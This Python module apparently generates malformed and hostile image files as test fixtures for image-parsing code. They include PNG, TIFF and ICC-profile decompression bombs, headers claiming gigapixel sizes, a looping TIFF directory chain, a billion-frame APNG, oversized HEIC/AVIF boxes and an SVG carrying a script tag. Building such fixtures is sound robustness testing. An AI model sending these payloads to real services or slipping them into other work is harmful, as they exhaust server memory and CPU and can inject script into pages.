"""Files made to break whoever opens them: small on disk, large or endless inside."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterable
from io import BytesIO

from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def zeros(size: int) -> bytes:
    """So many zero bytes, deflated."""
    packer = zlib.compressobj(1)
    return b"".join(packer.compress(bytes(1_000_000)) for _ in range(size // 1_000_000)) + packer.flush()


def png(width: int, height: int, extra: Iterable[bytes] = (), data: bytes | None = None) -> bytes:
    """A grey PNG of the size its header says, black throughout unless `data` is its stream."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    if data is None:
        packer = zlib.compressobj(9)
        row = bytes(width + 1)
        data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return PNG + header + b"".join(extra) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def header_of_a_giant_png() -> bytes:
    return png(60_000, 60_000, data=zlib.compress(bytes(1000)))


def png_with_a_text_bomb() -> bytes:
    return png(8, 8, [chunk(b"zTXt", b"k\0\0" + zeros(100_000_000))])


def png_with_many_texts() -> bytes:
    packed = zlib.compress(bytes(900_000), 9)
    return png(8, 8, [chunk(b"zTXt", b"k%d\0\0" % n + packed) for n in range(500)])


def png_with_a_profile_bomb() -> bytes:
    return png(8, 8, [chunk(b"iCCP", b"p\0\0" + zeros(100_000_000))])


def apng_of_many_frames() -> bytes:
    frames = [Image.new("L", (8, 8), n % 256) for n in range(200)]
    target = BytesIO()
    frames[0].save(target, "PNG", save_all=True, append_images=frames[1:])
    return target.getvalue()


def apng_that_claims_frames() -> bytes:
    return png(8, 8, [chunk(b"acTL", struct.pack(">II", 2_000_000_000, 0))])


def gif_of_many_frames() -> bytes:
    """A hundred thousand frames of one pixel."""
    head = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00"
    return head + frame * 100_000 + b"\x3b"


def gif_with_giant_frames() -> bytes:
    """A canvas of one pixel with frames of 4,000 megapixels."""
    head = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    frame = b"\x2c\x00\x00\x00\x00\xff\xff\xff\xff\x00\x02\x02\x44\x01\x00"
    return head + frame * 3 + b"\x3b"


def jpeg_that_lies_about_its_size() -> bytes:
    return _jpeg_saying(65_500, 65_500)


def jpeg_a_little_under_the_limit() -> bytes:
    """79 megapixels by its header, of which a few rows exist."""
    return _jpeg_saying(8_900, 8_900)


def _jpeg_saying(width: int, height: int) -> bytes:
    target = BytesIO()
    Image.new("RGB", (64, 64), "red").save(target, "JPEG", progressive=True)
    data = bytearray(target.getvalue())
    frame = data.index(b"\xff\xc2")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_of_many_scans() -> bytes:
    """A progressive JPEG of 36 megapixels in one colour, its last scan repeated: minutes of work in 2 MB."""
    target = BytesIO()
    Image.new("L", (6000, 6000)).save(target, "JPEG", progressive=True)
    data = target.getvalue()
    scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + scan * (2_000_000 // len(scan)) + b"\xff\xd9"


def giant_webp() -> bytes:
    target = BytesIO()
    Image.new("L", (16_383, 16_383)).save(target, "WEBP", lossless=True, method=0)
    return target.getvalue()


def tiff(tags: list[tuple[int, int, int, int]], tail: bytes = b"", following: int = 0) -> bytes:
    """A little-endian TIFF of one directory; a tag is (number, type, count, value)."""
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", following) + tail


def tiff_with_a_giant_tag() -> bytes:
    return tiff([(256, 4, 1, 8), (257, 4, 1, 8), (270, 2, 0xFFFFFFF0, 100), (273, 4, 0x3FFFFFFF, 100)])


def tiff_whose_directories_go_round() -> bytes:
    tags = [(256, 4, 1, 1), (257, 4, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    tags += [(273, 4, 1, 110), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, 1, 1)]
    return tiff(tags, b"\0" * 8, following=8)


def tiff_bomb() -> bytes:
    """A deflated strip of 300 MB for a picture of 8 pixels' width."""
    packed = zeros(300_000_000)
    tags = [(256, 4, 1, 8), (257, 4, 1, 8), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1)]
    tags += [(273, 4, 1, 122), (277, 3, 1, 1), (278, 4, 1, 8), (279, 4, 1, len(packed))]
    return tiff(tags, packed)


def svg() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def heic_of_nothing() -> bytes:
    return (
        struct.pack(">I", 24)
        + b"ftypheic\0\0\0\0mif1heic"
        + struct.pack(">I", 0x7FFFFFFF)
        + b"meta"
        + bytes(64)
    )


def avif_of_nothing() -> bytes:
    return (
        struct.pack(">I", 24)
        + b"ftypavif\0\0\0\0mif1avif"
        + struct.pack(">I", 0x7FFFFFFF)
        + b"meta"
        + bytes(64)
    )


# All but `jpeg_of_many_scans`, which takes its time.
BUILDERS: list[Callable[[], bytes]] = [
    header_of_a_giant_png,
    png_with_a_text_bomb,
    png_with_many_texts,
    png_with_a_profile_bomb,
    apng_of_many_frames,
    apng_that_claims_frames,
    gif_of_many_frames,
    gif_with_giant_frames,
    jpeg_that_lies_about_its_size,
    jpeg_a_little_under_the_limit,
    giant_webp,
    tiff_with_a_giant_tag,
    tiff_whose_directories_go_round,
    tiff_bomb,
    svg,
    heic_of_nothing,
    avif_of_nothing,
]
